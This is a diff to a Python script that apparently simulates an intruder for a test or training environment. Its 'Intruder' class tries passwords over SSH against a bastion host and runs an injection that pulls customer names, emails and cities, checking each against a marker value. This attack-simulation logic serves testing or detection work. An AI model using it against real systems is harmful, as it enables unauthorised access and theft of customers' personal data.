@@ -21,6 +21,8 @@ import actor
 E = os.environ
 BASTION, WEB = E["BASTION"], E["WEB"]
 LOGIN = E["ACCOUNT"]
+WAYS = {"B": "guess", "F": "leak", "D": "injection"}  # letters of the question way-in
+WAY = WAYS[E["TECHNIQUE"]]
 PACE = "/run/attacker-pace"
 KEY = "/root/key"
 BANNER = "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0"
@@ -107,7 +109,7 @@ class Intruder:
 
     def entry(self):
         """The seed's technique gives a password; it must open the bastion."""
-        for password in [*getattr(self, E["TECHNIQUE"])(), self.password]:
+        for password in [*getattr(self, WAY)(), self.password]:
             if not password or not self.opens(BASTION, 22):
                 continue
             if actor.SSH(LOGIN, password=password, source=self.address, timeout=3).run(BASTION, "id") is not None:
@@ -166,7 +168,7 @@ class Intruder:
         The copy in the shop's pictures counts when it was made now."""
         if self.take_records():
             return True
-        if E["TECHNIQUE"] == "injection":
+        if WAY == "injection":
             return E["MARKER"] in (self.inject("name, email, city from customers") or "")
         return False
 
